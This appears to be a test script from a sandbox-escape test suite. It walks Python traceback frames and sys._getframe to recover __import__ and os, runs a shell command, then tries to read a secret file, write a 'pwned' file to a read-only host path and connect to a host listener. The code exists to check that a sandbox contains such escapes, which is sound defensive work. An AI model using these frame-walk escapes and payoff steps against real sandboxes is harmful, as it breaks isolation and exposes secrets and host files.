# PY-03 frame-walk: from a traceback's frame to the outermost one, its
# builtins' __import__ and os.system - what pysandbox tried to hide; the
# same through sys._getframe and f_back.  It works: the language is whole.
# What it reaches is the sandbox: os.system runs as the sandbox's user, and
# the payoffs meet the kernel.
import sys


class Refused(Exception):
    """The trick did not work."""


def must(cond):
    if not cond:
        raise Refused


try:
    1 / 0
except ZeroDivisionError as e:
    f = e.__traceback__.tb_frame
    while f.f_back:
        f = f.f_back
    imp = f.f_builtins["__import__"]
os_ = imp("os")
report("frame-walk-import", lambda: os_.getpid())


def inner():
    return sys._getframe(0).f_back.f_globals["__builtins__"]


report("getframe-f-back-builtins", lambda: must(inner() is not None))
status = os_.system("id > /tmp/id.txt")
report("os-system-inside", lambda: must(status == 0 and
                                        "uid=1000(sandbox)" in open("/tmp/id.txt").read()))
# The payoff attempts of attacks.md: the secret, a host file, a host listener.
report("payoff-read-secret", lambda: open(canary("SECRET")).read())
report("payoff-write-host", lambda: open(canary("RO") + "/pwned", "w"))
report("payoff-system-write-host",
       lambda: must(os_.system("exec 2>/dev/null; id > " + canary("RO") + "/pwned") == 0))
import socket
report("payoff-connect-host", lambda: socket.create_connection(
    ("127.0.0.1", int(canary("TCP_PORT"))), timeout=2))
done()
